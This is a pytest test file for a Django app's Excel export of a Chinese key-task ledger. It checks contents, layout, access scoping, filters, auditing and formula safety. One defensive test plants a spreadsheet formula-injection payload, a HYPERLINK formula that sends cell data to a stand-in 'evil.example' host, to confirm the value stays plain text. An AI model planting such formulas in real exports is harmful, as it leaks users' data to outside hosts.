"""The Excel ledger: contents against the database, layout, visibility, filters,
formula safety, audit, LibreOffice."""
from __future__ import annotations

import io
from urllib.parse import quote

import pytest
from django.urls import reverse

from duban.exports.ledger import HEADERS, HEADER_ROW

from ._render import assert_chinese_renders, soffice_to_pdf
from .conftest import TODAY

COL = {h: i for i, h in enumerate(HEADERS)}


def download(client, user, query: str = ""):
    client.force_login(user)
    response = client.get(reverse("exports:ledger_xlsx") + (f"?{query}" if query else ""))
    assert response.status_code == 200, response.content[:300]
    return response


def sheet(response):
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(response.content)).active


def task_rows(ws) -> dict[str, list]:
    """序号 → the row's values, for the task rows (chapter rows have no 序号)."""
    out = {}
    for row in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True):
        if row[0]:
            assert row[0] not in out, f"任务 {row[0]} 出现了两次"
            out[str(row[0])] = ["" if v is None else v for v in row]
    return out


def expected_latest(tasks, reports) -> dict[int, object]:
    """The latest report that went out per task, worked out on model objects: the
    latest round, the lead unit's before a co-unit's, the latest submitted."""
    best = {}
    for r in reports.select_related("round"):
        if r.status not in ("submitted", "accepted") or r.submitted_at is None or r.task_id not in tasks:
            continue
        key = (r.round.period_end, r.round_id, r.role == "lead", r.submitted_at, r.pk)
        if r.task_id not in best or key > best[r.task_id][0]:
            best[r.task_id] = (key, r)
    return {k: v[1] for k, v in best.items()}


@pytest.mark.django_db
def test_it_writes_every_task_with_its_facts(client, seed, seed_office):
    from duban.plans.models import Task
    from duban.rounds.models import Report
    from duban.status.facts import status_for_tasks
    from duban.status.rules import LABELS

    ws = sheet(download(client, seed_office))
    assert ws.title == "任务台账"
    assert ws["A1"].value == "重点任务台账"
    assert ws["A2"].value.startswith("截至2026年11月28日，共 101 项任务")
    assert [c.value for c in ws[HEADER_ROW]] == HEADERS
    rows = task_rows(ws)
    tasks = list(Task.objects.active().prefetch_related("assignments__unit", "leader_links__leader").order_by("order"))
    assert len(rows) == len(tasks) == 101
    statuses = status_for_tasks(Task.objects.all(), TODAY)
    latest = expected_latest({t.pk for t in tasks}, Report.objects.all())
    assert latest, "演示调度应有已报送的报告"
    for t in tasks:
        row = rows[t.number]
        assert row[COL["工作任务"]] == t.title
        assert row[COL["牵头领导"]] == "、".join(link.leader.name for link in t.leader_links.all())
        links = sorted(t.assignments.all(), key=lambda a: a.order)
        assert row[COL["牵头单位"]] == "、".join(a.unit.name for a in links if a.role == "lead")
        assert row[COL["配合单位"]] == "、".join(a.unit.name for a in links if a.role == "co")
        if t.deadline:
            assert row[COL["完成时限"]].startswith(t.deadline.isoformat())
        assert row[COL["状态"]].split("\n")[0] == LABELS[statuses[t.pk].color]
        report = latest.get(t.pk)
        assert row[COL["进展情况"]] == (report.progress if report else "")
        assert row[COL["存在问题"]] == (report.problems if report else "")
        if report:
            assert f"·{report.unit.name}" in row[COL["备注"]]
    # Chapter rows in document order: every section title, before its first task.
    chapters = [r[1] for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True) if not r[0] and r[1]]
    assert chapters == [s.title for s in seed["plan"].sections.order_by("order") if s.tasks.exists()]


@pytest.mark.django_db
def test_it_shows_the_extended_deadline_and_the_light_in_colour(client, seed, seed_office):
    from duban.plans.models import Task
    from duban.supervision.models import ExtensionRequest

    ext = ExtensionRequest.objects.get(status="approved")
    ws = sheet(download(client, seed_office))
    rows = task_rows(ws)
    row = rows[Task.objects.get(pk=ext.task_id).number]
    assert row[COL["完成时限"]].endswith(f"延期至 {ext.new_deadline.isoformat()}")
    assert "经批准延期" in row[COL["备注"]]
    fills = {}
    for cells in ws.iter_rows(min_row=HEADER_ROW + 1):
        if cells[0].value:
            label = cells[COL["状态"]].value.split("\n")[0]
            fills.setdefault(label, set()).add(cells[COL["状态"]].fill.fgColor.rgb)
    assert len(fills) >= 2 and all(len(v) == 1 for v in fills.values()), fills
    assert len({next(iter(v)) for v in fills.values()}) == len(fills), "每种灯色应有不同的底色"


@pytest.mark.django_db
def test_it_lays_the_sheet_out_for_screen_and_print(client, seed, seed_office):
    ws = sheet(download(client, seed_office))
    assert ws.freeze_panes == f"C{HEADER_ROW + 1}"
    assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 8  # A3
    assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.fitToWidth) == 1
    assert ws.column_dimensions["B"].width == 40 and ws.column_dimensions["A"].width == 5
    assert "A1:M1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws.auto_filter.ref.startswith(f"A{HEADER_ROW}:M")
    data = ws.cell(row=HEADER_ROW + 2, column=2)  # a task's text (row HEADER_ROW + 1: the first chapter)
    assert data.alignment.wrap_text and data.alignment.vertical == "top"
    assert data.font.name == "仿宋_GB2312" and data.border.left.style == "thin"
    head = ws.cell(row=HEADER_ROW, column=2)
    assert head.font.name == "黑体" and head.font.bold and head.alignment.wrap_text


@pytest.mark.django_db
def test_a_liaisons_export_holds_only_their_units_tasks_and_reports(client, seed, seed_liaison):
    from duban.plans.models import Task
    from duban.rounds.models import Report

    response = download(client, seed_liaison)
    ws = sheet(response)
    mine = Task.objects.visible_to(seed_liaison).active()
    assert ws["A1"].value == f"{seed_liaison.unit.name}重点任务台账"
    rows = task_rows(ws)
    assert set(rows) == set(mine.values_list("number", flat=True))
    assert len(rows) < Task.objects.count()
    # Every progress shown is from a report the liaison may open: the latest of those.
    visible = Report.objects.visible_to(seed_liaison)
    latest = expected_latest(set(mine.values_list("pk", flat=True)), visible)
    assert latest
    for t in mine.prefetch_related("assignments__unit"):
        want = latest.get(t.pk)
        row = rows[t.number]
        assert row[COL["进展情况"]] == (want.progress if want else "")
        if want:
            source = row[COL["备注"]].split("进展来源：")[1].split("·", 1)[1].split("，")[0]
            leads = any(a.unit_id == seed_liaison.unit_id and a.role == "lead" for a in t.assignments.all())
            allowed = {seed_liaison.unit.name} | ({a.unit.name for a in t.assignments.all()} if leads else set())
            assert source in allowed, (t.number, source)


@pytest.mark.django_db
def test_another_units_scope_is_404_and_ones_own_works(client, seed, seed_liaison, far_unit):
    client.force_login(seed_liaison)
    assert far_unit is not None
    assert client.get(reverse("exports:ledger_xlsx") + f"?unit={far_unit.pk}").status_code == 404
    assert client.get(reverse("exports:ledger_xlsx") + "?unit=999999").status_code == 404
    ws = sheet(download(client, seed_liaison, f"unit={seed_liaison.unit_id}&role=lead"))
    from duban.plans.models import TaskUnit

    lead = set(TaskUnit.objects.filter(unit=seed_liaison.unit, role="lead", task__withdrawn=False)
               .values_list("task__number", flat=True))
    assert set(task_rows(ws)) == lead
    assert "责任单位" in ws["A2"].value and "（牵头）" in ws["A2"].value


@pytest.mark.django_db
def test_it_exports_exactly_what_the_filtered_ledger_shows(client, seed, seed_office, seed_leader):
    from duban.plans.models import Task

    leader = seed_leader.leader
    ws = sheet(download(client, seed_office, f"leader={leader.pk}&sort=deadline&page=2"))
    led = [t for t in Task.objects.active().prefetch_related("leader_links") if
           any(link.leader_id == leader.pk for link in t.leader_links.all())]
    numbers = [str(r[0]) for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True) if r[0]]
    assert sorted(numbers) == sorted(t.number for t in led)  # all pages, not page 2
    assert ws["A1"].value == f"{leader.name}同志牵头重点任务台账"
    assert f"牵头领导 {leader.name}" in ws["A2"].value
    # Deadline order (no date last), so no chapter rows.
    by_number = {t.number: t for t in led}
    deadlines = [by_number[n].deadline for n in numbers]
    dated = [d for d in deadlines if d]
    assert dated == sorted(dated) and all(d is None for d in deadlines[len(dated):])
    assert all(r[0] for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    # A search and a light filter narrow exactly as the ledger page does (all its pages).
    for query in ("q=养老", "status=red", f"status=yellow&leader={leader.pk}"):
        ws = sheet(download(client, seed_office, query))
        assert {int(pk) for pk in task_rows_pks(ws)} == ledger_page_tasks(client, query), query


def task_rows_pks(ws):
    from duban.plans.models import Task

    numbers = set(task_rows(ws))
    return set(Task.objects.active().filter(number__in=numbers).values_list("pk", flat=True))


def ledger_page_tasks(client, query: str) -> set[int]:
    """The tasks the ledger page lists for `query`, every page of it (from its HTML)."""
    import re

    found, page = set(), 1
    while True:
        html = client.get(reverse("plans:ledger") + f"?{query}&page={page}").content.decode()
        found |= {int(pk) for pk in re.findall(r'href="/plans/tasks/(\d+)/"', html)}
        if f"page={page + 1}" not in html:
            return found
        page += 1


@pytest.mark.django_db
def test_the_ledger_page_links_to_the_export_of_its_filter(client, seed, seed_office, seed_leader):
    client.force_login(seed_office)
    page = client.get(reverse("plans:ledger") + f"?leader={seed_leader.leader_id}").content.decode()
    assert f'href="{reverse("exports:ledger_xlsx")}?leader={seed_leader.leader_id}"' in page
    partial = client.get(reverse("plans:ledger") + "?status=red", HTTP_HX_REQUEST="true").content.decode()
    assert f'href="{reverse("exports:ledger_xlsx")}?status=red"' in partial


@pytest.mark.django_db
def test_it_names_the_file_in_chinese_and_audits_the_export(client, seed, seed_office):
    from duban.audit.models import Event

    response = download(client, seed_office, "status=red")
    disposition = response["Content-Disposition"]
    assert disposition == (f"attachment; filename=\"ledger-20261128.xlsx\"; "
                           f"filename*=UTF-8''{quote('重点任务台账-20261128.xlsx')}")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    event = Event.objects.get(action="export.ledger_xlsx")
    assert event.actor == seed_office and event.after["query"] == "status=red"
    assert event.after["tasks"] == len(task_rows(sheet(response)))


@pytest.mark.django_db
def test_text_that_looks_like_a_formula_stays_text(client, seed, seed_office):
    from duban.plans.models import Task
    from duban.rounds.models import Report

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    task = Task.objects.filter(plan=seed["plan"]).order_by("order").first()
    Task.objects.filter(pk=task.pk).update(title=evil)
    Report.objects.filter(task=task).update(progress="+1+1", status="submitted")
    ws = sheet(download(client, seed_office))
    for cells in ws.iter_rows(min_row=HEADER_ROW + 1):
        if cells[0].value == task.number:
            title, progress = cells[COL["工作任务"]], cells[COL["进展情况"]]
            break
    assert title.value == evil and title.data_type == "s" and title.quotePrefix
    assert progress.value == "+1+1" and progress.data_type == "s" and progress.quotePrefix


@pytest.mark.django_db
def test_admin_roles_get_no_ledger(client, seed, sysadmin, auditor):
    for user in (sysadmin, auditor):
        client.force_login(user)
        assert client.get(reverse("exports:ledger_xlsx")).status_code == 403


@pytest.mark.libreoffice
@pytest.mark.django_db
def test_libreoffice_converts_the_ledger_and_shows_chinese(client, seed, seed_office, tmp_path):
    response = download(client, seed_office)
    pdf = soffice_to_pdf(response.content, ".xlsx", tmp_path)
    assert pdf.startswith(b"%PDF")
    assert_chinese_renders(pdf, tmp_path)


@pytest.mark.django_db
def test_a_filter_matching_nothing_gives_the_headers_only(client, seed, seed_office):
    ws = sheet(download(client, seed_office, "q=不存在的任务内容xyz"))
    assert [c.value for c in ws[HEADER_ROW]] == HEADERS
    assert task_rows(ws) == {}
    assert ws["A2"].value.startswith("截至2026年11月28日，共 0 项任务。筛选条件：关键词 不存在的任务内容xyz")
